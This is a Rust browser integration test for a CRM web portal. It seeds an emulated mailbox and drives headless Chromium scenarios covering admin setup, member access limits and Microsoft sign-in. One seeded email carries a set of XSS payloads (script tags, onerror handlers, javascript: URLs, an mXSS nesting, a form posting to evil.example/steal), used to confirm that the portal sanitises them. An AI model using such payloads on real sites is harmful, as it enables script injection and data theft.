//! The portal in a real browser: Debian's headless Chromium, driven by
//! playwright-core (the node scripts in `tests/browser/`), against the real
//! `tac-crm serve` (portal and background sync) and the Microsoft emulator.
//!
//! This file builds the world once (an emulator with a known contact whose
//! mail includes a hostile email, a SQLite data folder, an admin and a
//! member made with `tac-crm admin create`, `tac-crm serve` on a free port)
//! and runs the scenarios in order, each a node script that exits non-zero
//! with the failing step: the admin's journey (which configures and syncs,
//! so it comes first and saves `target/browser-artifacts/contact-profile.png`),
//! the hostile email, the member kept out of Integrations, and a member who
//! signs in with Microsoft (the emulator's sign-in page, as the mailbox
//! user the contact's mail is in).
//!
//! It needs Chromium (`/usr/bin/chromium`, or `TAC_CHROMIUM`), Node.js and
//! `npm ci` in `tests/browser`; `scripts/test` installs Chromium and the
//! node packages (Node.js >= 20 must be there). When one is missing the test
//! fails and says so: it never skips. One database backend is enough here
//! (the portal's queries are tested on both by crates/web); the world is
//! SQLite, the default of `tac-crm serve`.

mod common;

use chrono::{Duration, Utc};
use common::{Cli, Scratch, text};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

const PASSWORD: &str = "a long enough passphrase";
const ADMIN: &str = "admin@tac-browser.example";
const MEMBER: &str = "member@tac-browser.example";
const CONTACT_NAME: &str = "Pat Rivera";
const CONTACT: &str = "pat.rivera@northwind.example";
const RENEWAL: &str = "Northwind renewal terms";
const RENEWAL_TEXT: &str = "The renewal terms for 2027 are attached.";
const REPLY: &str = "Re: Northwind renewal terms";
const HOSTILE: &str = "Q3 figures <img src=x onerror=alert(8)>";
const HOSTILE_TEXT: &str = "Here are the Q3 figures we discussed.";
const MEETING: &str = "Northwind quarterly review";
/// A scenario that runs longer than this has hung: it is stopped and fails.
const SCENARIO_LIMIT: std::time::Duration = std::time::Duration::from_secs(300);

/// Everything a hostile sender can try; none of it may run.
fn hostile_body() -> String {
    format!(
        r#"<p>{HOSTILE_TEXT}</p>
<script>alert(1); document.body.insertAdjacentHTML('beforeend', '<b id="injected-script">script ran</b>');</script>
<img src="x" onerror="alert(2); document.body.insertAdjacentHTML('beforeend', '<b id=injected-onerror>onerror ran</b>')">
<p><a href="javascript:alert(3)">Open the report</a></p>
<iframe src="javascript:alert(4)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe>
<svg onload="alert(6)"><circle r="5"></circle></svg>
<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>
<div style="background:url(javascript:alert(7))">Styled</div>
<object data="javascript:alert(9)"></object>
<math><mtext><table><mglyph><style><img src=x onerror="alert(10)"></style></mglyph></table></mtext></math>"#
    )
}

#[test]
fn the_portal_works_in_headless_chromium_for_admins_members_and_hostile_mail() {
    let scripts = browser_prerequisites();
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let emulator = runtime.block_on(tac_emulator::spawn(tac_emulator::EmulatorConfig::default())).expect("emulator");
    let credentials = emulator.credentials();
    let directory_user = runtime.block_on(seed_the_contacts_mail(&emulator.base_url()));

    let scratch = Scratch::new("browser");
    let dir = scratch.dir.clone();
    let cli = Cli::new(dir.clone(), format!("sqlite://{}", dir.join("tac.db").display()), "sqlite");
    for (email, role) in [(ADMIN, "admin"), (MEMBER, "member")] {
        let out = cli.run(&["admin", "create", "--email", email, "--role", role, "--password-stdin"], Some(PASSWORD));
        assert_eq!(out.status.code(), Some(0), "admin create {email}: {}", text(&out));
    }
    let serve = Serve::start(&cli);
    let artifacts = artifacts_dir();

    let env: Vec<(&str, String)> = vec![
        ("TAC_URL", serve.url.clone()),
        ("TAC_ADMIN_EMAIL", ADMIN.into()),
        ("TAC_ADMIN_PASSWORD", PASSWORD.into()),
        ("TAC_MEMBER_EMAIL", MEMBER.into()),
        ("TAC_MEMBER_PASSWORD", PASSWORD.into()),
        ("TAC_TENANT_ID", credentials.tenant_id.clone()),
        ("TAC_CLIENT_ID", credentials.client_id.clone()),
        ("TAC_CLIENT_SECRET", credentials.client_secret.clone()),
        ("TAC_LOGIN_URL", credentials.login_url.clone()),
        ("TAC_GRAPH_URL", credentials.graph_url.clone()),
        ("TAC_CONTACT_NAME", CONTACT_NAME.into()),
        ("TAC_CONTACT_EMAIL", CONTACT.into()),
        ("TAC_EXPECT_EMAILS", json!([RENEWAL, REPLY, HOSTILE]).to_string()),
        ("TAC_EXPECT_MEETINGS", json!([MEETING]).to_string()),
        ("TAC_OPEN_EMAIL", RENEWAL.into()),
        ("TAC_OPEN_EMAIL_TEXT", RENEWAL_TEXT.into()),
        ("TAC_HOSTILE_SUBJECT", HOSTILE.into()),
        ("TAC_HOSTILE_TEXT", HOSTILE_TEXT.into()),
        ("TAC_ARTIFACTS", artifacts.display().to_string()),
        ("TAC_MS_USER_EMAIL", directory_user),
    ];
    // In order: the admin's journey connects and syncs what the others read.
    let mut failures = Vec::new();
    for script in ["admin_journey.mjs", "hostile_email.mjs", "member_blocked.mjs", "member_microsoft.mjs"] {
        if let Err(report) = run_scenario(&scripts, script, &env, &dir) {
            failures.push(report);
        }
    }
    if !failures.is_empty() {
        panic!("{} browser scenario(s) failed:\n\n{}\n\n{}", failures.len(), failures.join("\n\n"), serve.log_tail());
    }
    assert!(artifacts.join("contact-profile.png").is_file(), "the screenshot is saved");
    drop(serve);
    drop(emulator);
}

/// `tests/browser`, once Chromium, Node.js and playwright-core are there;
/// otherwise the test fails with what to install.
fn browser_prerequisites() -> PathBuf {
    let scripts = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/browser");
    let chromium = std::env::var("TAC_CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    assert!(
        Path::new(&chromium).is_file(),
        "Chromium is not installed at {chromium}: run the suite with scripts/test, which installs Debian's \
         chromium package (or apt-get install chromium; TAC_CHROMIUM names another binary)"
    );
    let node = Command::new("node").arg("--version").output();
    assert!(
        node.as_ref().is_ok_and(|o| o.status.success()),
        "Node.js is not installed: the browser tests need node (>= 20) and npm; install them, then run scripts/test"
    );
    assert!(
        scripts.join("node_modules/playwright-core/package.json").is_file(),
        "playwright-core is not installed: run `npm ci` in tests/browser (scripts/test does; \
         PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD=1, the browser is Debian's)"
    );
    scripts
}

/// Where CI picks up screenshots: `target/browser-artifacts`, unless
/// `TAC_BROWSER_ARTIFACTS` says otherwise.
fn artifacts_dir() -> PathBuf {
    match std::env::var_os("TAC_BROWSER_ARTIFACTS") {
        Some(dir) => PathBuf::from(dir),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/browser-artifacts"),
    }
}

/// The contact's mail in the first mailbox: an email from Pat, our reply
/// (so the default policy creates Pat), a hostile email, and a meeting.
/// Returns that mailbox's address (a directory user who can sign in).
async fn seed_the_contacts_mail(emulator: &str) -> String {
    let http = reqwest::Client::new();
    let admin = async |method: reqwest::Method, path: &str, body: Option<Value>| -> Value {
        let mut request = http.request(method, format!("{emulator}/_emulator{path}"));
        if let Some(body) = body {
            request = request.json(&body);
        }
        let response = request.send().await.expect("the emulator answers");
        let status = response.status();
        let value: Value = response.json().await.unwrap_or(Value::Null);
        assert!(status.is_success(), "{path}: {status} {value}");
        value
    };
    let users = admin(reqwest::Method::GET, "/truth/mailboxes", None).await;
    let user = users["users"]
        .as_array()
        .expect("users")
        .iter()
        .find(|u| u["hasMailbox"] == true && u["accountEnabled"] == true && u["denied"] != true)
        .expect("a mailbox user");
    let (id, address) = (user["id"].as_str().unwrap(), user["userPrincipalName"].as_str().unwrap());
    let day = |n: i64| (Utc::now() - Duration::days(n)).to_rfc3339();
    let pat = json!({"name": CONTACT_NAME, "address": CONTACT});
    let us = json!({"name": "Our team", "address": address});
    let messages = [
        json!({"folder": "inbox", "subject": RENEWAL, "from": pat, "to": [us], "receivedDateTime": day(10),
               "body": format!("<p>Thanks for the call. {RENEWAL_TEXT}</p>"), "internetMessageId": "<renewal@northwind.example>"}),
        json!({"folder": "sentitems", "subject": REPLY, "from": us, "to": [pat], "receivedDateTime": day(9),
               "body": "<p>Thanks, we will read them this week.</p>", "internetMessageId": "<renewal-reply@contoso>"}),
        json!({"folder": "inbox", "subject": HOSTILE, "from": pat, "to": [us], "receivedDateTime": day(3),
               "body": hostile_body(), "internetMessageId": "<q3-figures@northwind.example>"}),
    ];
    for message in messages {
        admin(reqwest::Method::POST, &format!("/users/{id}/messages"), Some(message)).await;
    }
    let start = Utc::now() + Duration::days(3);
    let meeting = json!({"subject": MEETING, "start": start, "end": start + Duration::hours(1), "attendees": [pat]});
    admin(reqwest::Method::POST, &format!("/users/{id}/events"), Some(meeting)).await;
    address.to_owned()
}

/// `tac-crm serve` on a free port, with background sync; killed on drop.
struct Serve {
    child: Child,
    url: String,
    log: PathBuf,
}

impl Serve {
    fn start(cli: &Cli) -> Serve {
        let log = cli.data_dir.join("serve.log");
        let mut child = Command::new(env!("CARGO_BIN_EXE_tac-crm"))
            .args(["serve", "--listen", "127.0.0.1:0", "--interval", "300"])
            .env("TAC_DATA_DIR", &cli.data_dir)
            .env("TAC_DATABASE_URL", &cli.database_url)
            .env("TAC_ALLOW_CUSTOM_CLOUD", "true")
            .env("RUST_LOG", "info")
            .env("NO_COLOR", "1")
            .env_remove("TAC_MASTER_KEY")
            .env_remove("TAC_PUBLIC_URL")
            .env_remove("TAC_LISTEN")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&log).expect("serve log"))
            .spawn()
            .expect("tac-crm serve starts");
        let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
        let mut first = String::new();
        stdout.read_line(&mut first).expect("serve prints its address");
        let url = first.strip_prefix("TAC portal: ").and_then(|rest| rest.split_whitespace().next()).map(str::to_owned);
        // Keep reading so the pipe never fills.
        std::thread::spawn(move || {
            let _ = std::io::copy(&mut stdout, &mut std::io::sink());
        });
        let serve = Serve { child, url: url.unwrap_or_default(), log };
        assert!(serve.url.starts_with("http://127.0.0.1:"), "unexpected first line {first:?}\n{}", serve.log_tail());
        serve
    }

    /// The end of the server's log, for failure messages.
    fn log_tail(&self) -> String {
        let log = std::fs::read_to_string(&self.log).unwrap_or_default();
        let lines: Vec<&str> = log.lines().collect();
        format!("--- tac-crm serve, last lines of its log ---\n{}", lines[lines.len().saturating_sub(40)..].join("\n"))
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs `node tests/browser/<script>`; Err with its output when it fails or hangs.
fn run_scenario(scripts: &Path, script: &str, env: &[(&str, String)], dir: &Path) -> Result<(), String> {
    let output_path = dir.join(format!("{script}.log"));
    let output = std::fs::File::create(&output_path).expect("scenario log");
    let mut child = Command::new("node")
        .arg(script)
        .current_dir(scripts)
        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
        .stdin(Stdio::null())
        .stdout(output.try_clone().expect("log handle"))
        .stderr(output)
        .spawn()
        .map_err(|e| format!("{script}: node does not start: {e}"))?;
    let started = std::time::Instant::now();
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break Some(status),
            Ok(None) if started.elapsed() > SCENARIO_LIMIT => {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(100)),
            Err(e) => return Err(format!("{script}: cannot wait for node: {e}")),
        }
    };
    let mut log = String::new();
    let _ = std::fs::File::open(&output_path).and_then(|mut f| f.read_to_string(&mut log));
    println!("{log}");
    match status {
        Some(s) if s.success() => Ok(()),
        Some(s) => Err(format!("=== {script} failed ({s}) ===\n{log}")),
        None => Err(format!("=== {script} did not finish within {SCENARIO_LIMIT:?} and was stopped ===\n{log}")),
    }
}
